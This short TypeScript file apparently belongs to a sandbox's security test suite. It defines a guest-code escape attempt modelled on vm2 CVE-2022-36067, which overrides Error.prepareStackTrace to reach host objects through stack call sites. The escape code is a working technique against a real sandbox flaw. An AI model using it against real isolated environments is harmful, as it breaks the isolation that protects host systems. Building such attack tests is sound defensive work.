import { attack } from '../attack.ts';

/** A guest hook receives call sites: their receivers and functions are objects of the frames below (vm2 CVE-2022-36067). */
export const escape = attack({
	grants: ['plain'],
	source: `
		Error.stackTraceLimit = Infinity;
		Error.prepareStackTrace = (_error, sites) => sites;
		const sites = new Error().stack;
		for (const site of Array.isArray(sites) ? sites : []) {
			const got = loot(site.getThis()) ?? loot(site.getFunction());
			if (got) return got;
		}
	`,
});
